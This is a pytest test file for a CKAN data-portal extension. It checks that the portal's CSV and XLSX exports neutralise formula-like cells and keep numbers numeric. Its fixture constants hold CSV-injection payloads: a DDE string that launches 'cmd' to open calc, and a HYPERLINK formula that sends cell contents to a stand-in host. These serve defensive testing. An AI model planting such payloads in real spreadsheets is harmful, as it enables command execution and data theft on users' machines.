"""Formula-safe CSV/XLSX: the one rule (``spreadsheets.formula_like``) and every file the
portal writes — the audit CSV, the annual report (full and public, CSV and XLSX), the Daftar
Data export and the data-standard templates — read back with ``csv`` and openpyxl: cells that
look like formulas are inert text, numbers stay numbers.
"""
from __future__ import annotations

import base64
import csv
import io
import json
from typing import Any

import openpyxl
import pytest

from ckan.tests import factories, helpers

from ckanext.satudata_blitar import lifecycle, spreadsheets, workdays
from ckanext.satudata_blitar.report import compute, render

from sop_support import COMPLETE, walk

#: text a producer, a Walidata or a Sekretariat can type, each a formula to a spreadsheet
TITLE = '=HYPERLINK("http://contoh.test/?"&A1,"Data penduduk")'
ORG_TITLE = "+Dinas Rumus"
REASON = "-2+3+cmd|' /C calc'!A0"
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
SUBMIT_NOTE = "=1+1 catatan"
ITEM_NAME = "=1+1"
UNIT = "@satuan"
FIELD = "=jumlah"


@pytest.mark.parametrize("value, formula", [
    ("=1+1", True), ("+62 812 3456", True), ("-2+3", True), ("@SUM(A1)", True),
    ("\t=1", True), ("\rx", True), ("- belum ada", True),
    ("-5", False), ("+62", False), ("-1.234,5", False), ("-", False), ("", False),
    ("Kota Blitar", False), ("a=b", False), (" =1", False), (5, False), (-5, False),
    (None, False), (2.5, False),
])
def test_the_rule(value, formula):
    assert spreadsheets.formula_like(value) is formula
    csv_value = spreadsheets.neutralise(value)
    assert csv_value == (("'" + value) if formula else ("" if value is None else value))
    assert spreadsheets.restore(csv_value) == ("" if value is None else value)


def test_xlsx_cells_are_text_with_a_quote_prefix(tmp_path):
    book = openpyxl.Workbook()
    spreadsheets.xlsx_append(book.active, ["=1+1", "-2+3", 7, -7, "-7", None, "teks"])
    book.save(tmp_path / "x.xlsx")
    cells = next(openpyxl.load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert [c.value for c in cells] == ["=1+1", "-2+3", 7, -7, "-7", None, "teks"]
    assert [c.data_type for c in cells[:5]] == ["s", "s", "n", "n", "s"]
    assert [c.quotePrefix for c in cells[:3]] == [True, True, False]


# -- the files the portal writes ----------------------------------------------------------------

def _rows_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _cells_csv(text: str) -> list[str]:
    return [c for row in _rows_csv(text) for c in row]


def _cells_xlsx(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: formulas would show
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def assert_inert_csv(text: str, expected: tuple[str, ...]) -> None:
    """No cell starts like a formula; each expected text is there behind an apostrophe."""
    cells = _cells_csv(text)
    assert not [c for c in cells if spreadsheets.formula_like(c)]
    for value in expected:
        assert "'" + value in cells, value


def assert_inert_xlsx(data: bytes, expected: tuple[str, ...]) -> None:
    """No formula cell; each expected text is a text cell with Excel's quote prefix."""
    cells = _cells_xlsx(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for value in expected:
        found = [c for c in cells if c.value == value]
        assert found, value
        assert all(c.data_type == "s" and c.quotePrefix for c in found), value


@pytest.fixture(scope="module")
def world(reset_db, migrate_db_for) -> dict[str, Any]:
    """An OPD and a dataset with formula-like text, returned once with a formula-like reason,
    then published through the real gates; a report note and a Daftar Data of the same."""
    import ckan.plugins

    ckan.plugins.load_all()  # module fixtures run before the test's with_plugins
    reset_db()
    migrate_db_for("activity")
    migrate_db_for("satudata_blitar")
    migrate_db_for("satudata_search")
    sekretariat = factories.User(name="rumus_sekretariat")
    helpers.call_action("satudata_role_assign", user=sekretariat["name"], role="sekretariat")
    org = factories.Organization(name="dinas-rumus", title=ORG_TITLE)
    pkg = factories.Dataset(owner_org=org["id"], name="data-rumus", title=TITLE, **COMPLETE)
    helpers.call_action("satudata_dataset_submit", id=pkg["id"], note=SUBMIT_NOTE)
    helpers.call_action("satudata_dataset_return", id=pkg["id"], reason=REASON,
                        reason_category="lainnya")
    walk(pkg["id"], lifecycle.PUBLISHED)
    year = workdays.today().year
    helpers.call_action("satudata_report_note_create", year=year, text=NOTE, section="umum")
    dd = helpers.call_action("satudata_daftar_data_create", year=year, items=[{
        "code": "DD-1", "name": ITEM_NAME, "owner_org": org["id"], "unit": UNIT,
        "notes": REASON, "frequency": "tahunan", "priority": "ya"}])
    token = factories.APIToken(user=sekretariat["name"])["token"]
    return {"pkg": pkg, "org": org, "year": year, "dd": dd,
            "auth": {"Authorization": token}}


with_plugins = pytest.mark.usefixtures("with_plugins")


@with_plugins
def test_audit_csv(world):
    text = helpers.call_action("satudata_audit_export", package_id=world["pkg"]["id"])
    assert_inert_csv(text, (REASON, SUBMIT_NOTE))
    rows = _rows_csv(text)
    header = rows[0]
    returned = next(r for r in rows[1:] if r[header.index("transition")] == "return")
    assert returned[header.index("reason")] == "'" + REASON
    # what the auditor reads back is what was stored
    assert spreadsheets.restore(returned[header.index("reason")]) == REASON


@with_plugins
def test_full_report_csv_and_xlsx(world, app):
    year = world["year"]
    document = helpers.call_action("satudata_report_annual", year=year)
    assert document["published_datasets"][0]["title"] == TITLE  # the JSON keeps the text
    sha = compute.document_sha256(document)
    with render.i18n_context():
        text = render.render(document, "csv", sha).decode("utf-8")
        data = render.render(document, "xlsx", sha)
    assert_inert_csv(text, (TITLE, ORG_TITLE, NOTE))
    assert_inert_xlsx(data, (TITLE, ORG_TITLE, NOTE))
    # the downloads of the page are the same renderings
    page = app.get(f"/satudata/laporan/{year}.xlsx", headers=world["auth"])
    assert_inert_xlsx(page.data, (TITLE, ORG_TITLE, NOTE))


@with_plugins
def test_numbers_stay_numbers_in_the_report(world):
    document = helpers.call_action("satudata_report_annual", year=world["year"])
    sha = compute.document_sha256(document)
    with render.i18n_context():
        data = render.render(document, "xlsx", sha)
        text = render.render(document, "csv", sha).decode("utf-8")
    book = openpyxl.load_workbook(io.BytesIO(data))
    summary = book.worksheets[0]
    values = {row[0].value: row[1].value for row in summary.iter_rows(min_row=3)
              if row[0].value}
    numbers = [v for v in values.values() if isinstance(v, (int, float))]
    assert numbers and 1 in numbers  # one published dataset, an int cell
    assert all(c.data_type == "n" for row in summary.iter_rows(min_row=3)
               for c in row[1:2] if isinstance(c.value, (int, float)))
    assert not [c for c in _cells_csv(text) if c.startswith("'") and c[1:].isdigit()]


@with_plugins
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_public_report_downloads(world, app, fmt):
    resp = app.get(f"/satudata/laporan/publik/{world['year']}.{fmt}")
    if fmt == "csv":
        assert_inert_csv(resp.body, (TITLE, ORG_TITLE))
    else:
        assert_inert_xlsx(resp.data, (TITLE, ORG_TITLE))


@with_plugins
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_daftar_data_export_and_import_round_trip(world, fmt):
    out = helpers.call_action("satudata_daftar_data_export", id=world["dd"]["id"], format=fmt)
    if fmt == "csv":
        content = out["content"].encode("utf-8")
        assert_inert_csv(out["content"], (ITEM_NAME, UNIT, REASON))
    else:
        content = base64.b64decode(out["content"])
        assert_inert_xlsx(content, (ITEM_NAME, UNIT, REASON))
    # the portal reads its own file back as it was written
    draft = helpers.call_action("satudata_daftar_data_create",
                                year=world["year"] + {"csv": 1, "xlsx": -1}[fmt])
    back = helpers.call_action("satudata_daftar_data_import", id=draft["id"], format=fmt,
                               upload=_upload(content, f"daftar.{fmt}"))
    item = back["items"][0]
    assert (item["name"], item["unit"], item["notes"]) == (ITEM_NAME, UNIT, REASON)


def _upload(data: bytes, filename: str):
    from werkzeug.datastructures import FileStorage

    return FileStorage(io.BytesIO(data), filename=filename)


@with_plugins
def test_standard_templates(world, app):
    schema = {"fields": [{"name": "kode_wilayah", "type": "string"},
                         {"name": FIELD, "type": "integer", "description": "=deskripsi"}]}
    helpers.call_action("satudata_standard_create", name="standar-rumus",
                        schema=json.dumps(schema))
    text = app.get("/standar-data/standar-rumus/template.csv").body
    assert _rows_csv(text) == [["kode_wilayah", "'" + FIELD]]
    data = app.get("/standar-data/standar-rumus/template.xlsx").data
    assert_inert_xlsx(data, (FIELD,))
    header = openpyxl.load_workbook(io.BytesIO(data)).active[1]
    assert header[1].comment.text == "=deskripsi"  # a comment is never evaluated


def test_every_writer_goes_through_the_rule():
    """No CSV row or XLSX workbook of the package is written around the spreadsheets module."""
    import pathlib
    import re

    import ckanext.satudata_blitar as package

    root = pathlib.Path(package.__file__).parent
    rows = re.compile(r"\.writerows?\(")
    bypass = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        for number, line in enumerate(text.splitlines(), 1):
            if rows.search(line) and "spreadsheets." not in line:
                bypass.append(f"{path.relative_to(root)}:{number}: {line.strip()}")
        if "Workbook(" in text and "spreadsheets.xlsx_append" not in text:
            bypass.append(f"{path.relative_to(root)}: a workbook without xlsx_append")
    assert bypass == []
